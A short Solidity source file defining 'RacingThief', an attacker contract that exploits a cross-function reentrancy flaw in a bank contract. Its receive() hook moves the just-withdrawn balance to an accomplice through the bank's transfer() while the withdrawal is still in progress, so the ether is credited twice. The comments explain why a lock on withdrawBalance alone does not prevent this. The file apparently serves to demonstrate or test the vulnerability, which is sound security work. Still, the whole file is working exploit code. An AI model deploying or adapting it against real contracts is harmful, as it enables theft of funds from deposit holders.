// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IBank} from "./IBank.sol";

/// @notice The cross-function race: while it is being paid, it moves the balance that was just paid out to an
/// accomplice through `transfer`, which does not know of the withdrawal under way. A lock on
/// `withdrawBalance` alone would not help.
contract RacingThief {
    IBank private immutable _bank;
    address private immutable _accomplice;

    constructor(IBank bank, address accomplice) {
        _bank = bank;
        _accomplice = accomplice;
    }

    /// @notice Deposits the ether sent along and withdraws it; the accomplice then owns it a second time.
    function rob() external payable {
        _bank.deposit{value: msg.value}();
        _bank.withdrawBalance();
    }

    receive() external payable {
        try _bank.transfer(_accomplice, msg.value) {} catch {}
    }
}
